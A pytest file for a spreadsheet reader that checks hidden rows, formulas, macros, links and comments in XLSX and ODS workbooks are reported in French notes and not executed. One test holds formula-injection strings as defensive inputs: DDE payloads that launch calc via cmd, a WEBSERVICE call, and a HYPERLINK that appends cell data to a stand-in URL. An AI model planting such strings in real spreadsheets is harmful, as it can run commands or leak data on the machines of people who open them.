"""What a workbook holds beside its values is told, and nothing of it is lost or run."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from openpyxl.comments import Comment

from dts_research.intake.readers import read_table
from dts_research.intake.sheets import Sheet

ROWS = [["Titre", "Résumé", "Commune"], ["Jardin", "On jardine", "Lyon"], ["Vélo", "x", "Nice"]]


def only(path: Path) -> Sheet:
    (sheet,) = read_table(path)
    return sheet


def said(sheet: Sheet, start: str) -> str:
    (note,) = [note for note in sheet.notes if note.startswith(start)]
    return note


def workbook() -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    for row in ROWS:
        book.active.append(row)
    return book


def add_parts(path: Path, **parts: bytes) -> None:
    with zipfile.ZipFile(path, "a") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


def test_hidden_rows_and_columns_are_read_and_told(tmp_path: Path) -> None:
    book = workbook()
    for n in range(4, 10):
        book.active.append([f"t{n}", "x", "Metz"])
    for n in (3, 5, 6, 7):
        book.active.row_dimensions[n].hidden = True
    book.active.column_dimensions["B"].hidden = True
    book.save(tmp_path / "a.xlsx")
    sheet = only(tmp_path / "a.xlsx")
    assert list(sheet.cells.index) == list(range(2, 10))
    assert sheet.columns == ("Titre", "Résumé", "Commune")
    assert said(sheet, "Lignes masquées").endswith(": 3, 5 à 7.")
    assert said(sheet, "Colonnes masquées").endswith(": B.")


def test_columns_hidden_to_the_end_of_the_sheet_are_told_within_the_table(tmp_path: Path) -> None:
    book = xlsxwriter.Workbook(tmp_path / "a.xlsx")
    page = book.add_worksheet()
    for n, row in enumerate(ROWS):
        page.write_row(n, 0, row)
    page.set_column("C:XFD", None, None, {"hidden": True})
    page.set_default_row(hide_unused_rows=True)
    book.close()
    assert said(only(tmp_path / "a.xlsx"), "Colonnes masquées").endswith(": C.")


def test_a_hidden_sheet_is_read_and_told(tmp_path: Path) -> None:
    book = workbook()
    book.active.sheet_state = "hidden"
    book.create_sheet("vide")
    book.save(tmp_path / "a.xlsx")
    assert said(only(tmp_path / "a.xlsx"), "La feuille est masquée")


def test_formulas_give_their_last_result(tmp_path: Path) -> None:
    book = xlsxwriter.Workbook(tmp_path / "a.xlsx")
    page = book.add_worksheet()
    page.write_row(0, 0, ["Titre", "Total", "Lien"])
    page.write_row(1, 0, ["Jardin"])
    page.write_formula(1, 1, "=40+2", None, 42)
    page.write_formula(1, 2, '=HYPERLINK("http://exemple.fr","voir")', None, "voir")
    book.close()
    sheet = only(tmp_path / "a.xlsx")
    assert sheet.cells.loc[2].tolist() == ["Jardin", "42", "voir"]
    assert said(sheet, "Formules dans la feuille").startswith("Formules dans la feuille : 2 ;")
    assert not sheet.set_aside


def test_a_formula_without_a_result_is_told_and_its_row_stays(tmp_path: Path) -> None:
    book = workbook()
    book.active["B3"] = "=A3&C3"
    book.active["A5"], book.active["B7"] = "=1+1", "=2+2"
    book.save(tmp_path / "a.xlsx")
    sheet = only(tmp_path / "a.xlsx")
    assert list(sheet.cells.index) == [2, 3, 5, 7]
    assert sheet.cells.loc[3].isna().tolist() == [False, True, False]
    assert set(sheet.set_aside) == {5, 7}
    assert "formules sans résultat" in sheet.set_aside[5]
    assert "B3, B7, A5" in said(sheet, "Formules sans résultat enregistré")


def test_no_fact_is_lost_in_a_long_sheet(tmp_path: Path) -> None:
    """The XML is read by pieces: what stands across two of them is seen."""
    book = xlsxwriter.Workbook(tmp_path / "a.xlsx")
    page = book.add_worksheet()
    page.write_row(0, 0, ["Titre", "Total", "Reste"])
    for n in range(1, 20_001):
        page.write_row(n, 0, [f"t{n}", n])
        page.write_formula(n, 2, f"=B{n + 1}+1", None, "" if n % 3 == 0 else n + 1)
        if n % 7 == 0:
            page.set_row(n, None, None, {"hidden": True})
    book.close()
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size > 2 << 20
    sheet = only(tmp_path / "a.xlsx")
    assert len(sheet.cells) == 20_000
    assert "(6666 cellules)" in said(sheet, "Formules sans résultat")
    assert said(sheet, "Formules dans la feuille").startswith("Formules dans la feuille : 20000 ;")
    assert said(sheet, "Lignes masquées").endswith(f"et {20_000 // 7 - 8} autres.")


def test_a_formula_that_gives_an_empty_text_has_a_result(tmp_path: Path) -> None:
    workbook().save(tmp_path / "a.xlsx")
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    part = "xl/worksheets/sheet1.xml"
    empty = b'<row r="9"><c r="A9" t="str"><f>""</f><v></v></c></row></sheetData>'
    parts[part] = parts[part].replace(b"</sheetData>", empty)
    with zipfile.ZipFile(tmp_path / "b.xlsx", "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    sheet = only(tmp_path / "b.xlsx")
    assert list(sheet.cells.index) == [2, 3]
    assert said(sheet, "Formules dans la feuille").startswith("Formules dans la feuille : 1 ;")


def test_cells_in_error_are_told(tmp_path: Path) -> None:
    book = workbook()
    book.active["B2"], book.active["A4"] = "#REF!", "#DIV/0!"
    book.save(tmp_path / "a.xlsx")
    sheet = only(tmp_path / "a.xlsx")
    assert said(sheet, "Cellules en erreur").endswith("lues vides : B2, A4.")
    assert set(sheet.set_aside) == {4}


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://exemple.fr/"&A1,"clic")', "=cmd|'/C calc'!A0",
        '=WEBSERVICE("http://exemple.fr")', "+1+cmd|'/C calc'!A0", "@SUM(1+1)",
    ],
)  # fmt: skip
def test_text_that_looks_like_a_formula_comes_as_it_is(tmp_path: Path, formula: str) -> None:
    book = xlsxwriter.Workbook(tmp_path / "a.xlsx", {"strings_to_formulas": False})
    page = book.add_worksheet()
    for n, row in enumerate([["Titre", "Résumé"], ["Jardin", formula]]):
        for place, text in enumerate(row):
            page.write_string(n, place, text)
    book.close()
    sheet = only(tmp_path / "a.xlsx")
    assert sheet.cells.loc[2, "Résumé"] == formula
    assert not sheet.notes


def test_comments_macros_and_links_are_told(tmp_path: Path) -> None:
    book = workbook()
    book.active["A2"].comment = Comment("à vérifier", "Léa")
    book.active["B3"].comment = Comment("vu", "Léa")
    path = tmp_path / "a.xlsm"
    book.save(path)
    link = b"<externalLink/>"
    add_parts(path, **{"xl/vbaProject.bin": b"\0" * 64, "xl/externalLinks/externalLink1.xml": link})
    sheet = only(path)
    assert sheet.cells.values.tolist() == ROWS[1:]
    assert said(sheet, "Le classeur contient des macros")
    assert said(sheet, "Le classeur est lié à d'autres fichiers")
    assert said(sheet, "Commentaires de cellules").endswith(": 2.")


def test_a_sheet_that_is_a_chart_is_told(tmp_path: Path) -> None:
    book = xlsxwriter.Workbook(tmp_path / "a.xlsx")
    page = book.add_worksheet("Données")
    page.write_column(0, 0, ["Total", 1, 2])
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=Données!$A$2:$A$3"})
    book.add_chartsheet("Courbe").set_chart(chart)
    book.close()
    sheet = only(tmp_path / "a.xlsx")
    assert said(sheet, "Feuilles qui ne sont pas").endswith("non lues : « Courbe ».")


def test_a_plain_workbook_says_nothing(tmp_path: Path) -> None:
    workbook().save(tmp_path / "a.xlsx")
    assert only(tmp_path / "a.xlsx").notes == ()


def test_what_cannot_be_inspected_is_said(real_data: Path) -> None:
    folder = real_data / "messy" / "frictionless"
    assert said(read_table(folder / "table.xls")[0], "Format non inspectable")
    assert not any("inspectable" in n for n in read_table(folder / "table.xlsx")[0].notes)


ODS = """<office:document-content
 xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>
<table:table table:name="F"><table:table-column/>
<table:table-column table:visibility="collapse" table:number-columns-repeated="2"/>
<table:table-row>{a}{b}{c}</table:table-row>
<table:table-row table:number-rows-repeated="2" table:visibility="filter">{a}{b}{c}
</table:table-row>
<table:table-row table:number-rows-repeated="3"><table:table-cell/></table:table-row>
<table:table-row><table:table-cell table:formula="of:=1+1"/>
<table:table-cell office:value-type="string" table:formula="of:=&quot;u&quot;"><office:annotation>
<text:p>note</text:p></office:annotation><text:p>u</text:p></table:table-cell></table:table-row>
<table:table-row><table:table-cell table:number-columns-repeated="2"/>
<table:table-cell table:formula="of:=[.A1]"/></table:table-row>
<table:table-row table:number-rows-repeated="1048566" table:visibility="collapse">
<table:table-cell table:number-columns-repeated="1024"/></table:table-row>
</table:table></office:spreadsheet></office:body></office:document-content>""".replace("\n", "")
TEXT = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'


def test_an_opendocument_sheet_tells_the_same(tmp_path: Path) -> None:
    path = tmp_path / "a.ods"
    cells = {name: TEXT.format(name) for name in "abc"}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", ODS.format(**cells))
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
        archive.writestr("Basic/Standard/Module1.xml", "<x/>")
    sheet = only(path)
    assert list(sheet.cells.index) == [2, 3, 7, 8]
    assert said(sheet, "Lignes masquées").endswith(": 2 à 3.")
    assert said(sheet, "Colonnes masquées").endswith(": B à C.")
    assert "A7, C8" in said(sheet, "Formules sans résultat enregistré")
    assert said(sheet, "Formules dans la feuille").startswith("Formules dans la feuille : 3 ;")
    assert said(sheet, "Commentaires de cellules").endswith(": 1.")
    assert said(sheet, "Le classeur contient des macros")
    assert 8 in sheet.set_aside
